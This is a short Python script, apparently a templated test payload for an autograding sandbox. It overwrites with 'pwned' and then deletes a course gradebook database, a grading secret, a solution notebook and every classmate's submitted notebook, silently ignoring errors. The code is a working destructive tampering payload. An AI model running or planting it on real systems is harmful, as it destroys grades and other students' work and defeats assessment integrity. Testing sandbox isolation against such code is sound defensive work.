"""Overwrite the gradebook, the secret, the solutions and a classmate's submission."""

import glob
import os

for _path in ["__COURSE__/gradebook.db", "__COURSE__/.dlcourse/grading_secret",
              "__COURSE__/solutions/a1_convolution/a1_convolution.ipynb",
              "/tmp/dlcourse-pwned", "__COURSE__/pwned"] + \
        glob.glob("__COURSE__/submitted/*/a1_convolution/*.ipynb"):  # fmt: skip
    try:
        with open(_path, "w") as _f:
            _f.write("pwned")
    except OSError:
        pass
    try:
        os.remove(_path)
    except OSError:
        pass
